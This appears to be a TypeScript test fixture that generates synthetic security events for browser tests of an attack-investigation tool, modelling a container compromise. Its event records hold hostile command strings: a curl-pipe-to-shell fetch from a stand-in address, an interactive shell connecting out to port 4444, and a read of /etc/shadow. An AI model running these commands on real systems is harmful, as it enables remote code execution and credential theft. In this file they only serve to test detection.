/**
 * A container attack for the browser tests, shaped as the collector reports one (process keys,
 * parent keys and ancestry up to the container's init; audits of one action within a second):
 * the entrypoint listens on 8080, a shell drops a miner, then `/bin/sh -i` calls home.
 */
import { makeEvent, msToNs, type CasefileEvent } from '@casefile/schema';

export const ATTACK_HOST = 'e2e-attack';
export const ATTACK_CONTAINER = { containerId: 'd'.repeat(64), containerName: 'shop' };
const scope = {
  host: ATTACK_HOST,
  ...ATTACK_CONTAINER,
  imageName: 'registry.example/shop:2.1',
  imageDigest: 'sha256:' + 'cd'.repeat(32),
  namespace: 'shop',
  pod: 'shop-0',
};
export const KEYS = { init: 'boot:5000:10', sh: 'boot:5100:20', shell: 'boot:5200:30', cat: 'boot:5300:40' };

/** The attack's events, from `startMs` over about a minute. */
export function attackEvents(startMs: number): CasefileEvent[] {
  let n = 0;
  const at = (ms: number, e: Record<string, unknown>) =>
    makeEvent({ ...scope, timeNs: `${BigInt(msToNs(startMs + ms)) + BigInt(++n)}`, ...e } as never);
  const audit = (ms: number, attackType: string, severity: string, ruleId: string, mitre: string) =>
    at(ms, {
      type: 'runtime.audit',
      message: `${attackType}: /bin/sh -i in shop`,
      attackType,
      severity,
      ruleId,
      action: 'alert',
      mitreTechnique: mitre,
      pid: 5200,
      ppid: 5100,
      processKey: KEYS.shell,
      parentProcessKey: KEYS.sh,
      processAncestry: [KEYS.sh, KEYS.init],
      executable: '/bin/sh',
      commandLine: '/bin/sh -i',
      user: 'www-data',
      uid: 33,
    });
  return [
    at(0, { type: 'container.start', message: 'container shop started', pid: 5000 }),
    at(500, {
      type: 'process.start',
      message: 'exec /docker-entrypoint.sh',
      pid: 5000,
      ppid: 4990,
      processKey: KEYS.init,
      executable: '/docker-entrypoint.sh',
      commandLine: '/docker-entrypoint.sh httpd -f',
      processEntry: 'container_init',
      user: 'root',
      uid: 0,
    }),
    at(1000, {
      type: 'port.listen',
      message: 'listening on 0.0.0.0:8080',
      listenPort: 8080,
      pid: 5000,
      processKey: KEYS.init,
      executable: '/docker-entrypoint.sh',
    }),
    at(30_000, {
      type: 'process.start',
      message: 'exec sh -c',
      pid: 5100,
      ppid: 5000,
      processKey: KEYS.sh,
      parentProcessKey: KEYS.init,
      processAncestry: [KEYS.init],
      executable: '/bin/sh',
      commandLine: 'sh -c "curl -s http://203.0.113.9/x | sh"',
      user: 'www-data',
      uid: 33,
    }),
    at(40_000, {
      type: 'process.start',
      message: 'exec /bin/sh -i',
      pid: 5200,
      ppid: 5100,
      processKey: KEYS.shell,
      parentProcessKey: KEYS.sh,
      processAncestry: [KEYS.sh, KEYS.init],
      executable: '/bin/sh',
      commandLine: '/bin/sh -i',
      user: 'www-data',
      uid: 33,
    }),
    audit(40_100, 'reverse_shell', 'critical', 'R1005', 'T1059.004'),
    audit(40_200, 'unexpected_process', 'high', 'model.process', 'T1059'),
    at(40_300, {
      type: 'network.connect',
      message: 'connect 203.0.113.9:4444',
      destAddress: '203.0.113.9',
      destPort: 4444,
      pid: 5200,
      processKey: KEYS.shell,
      executable: '/bin/sh',
    }),
    at(45_000, {
      type: 'process.start',
      message: 'exec cat /etc/shadow',
      pid: 5300,
      ppid: 5200,
      processKey: KEYS.cat,
      parentProcessKey: KEYS.shell,
      processAncestry: [KEYS.shell, KEYS.sh, KEYS.init],
      executable: '/bin/cat',
      commandLine: 'cat /etc/shadow',
      user: 'www-data',
      uid: 33,
    }),
  ];
}
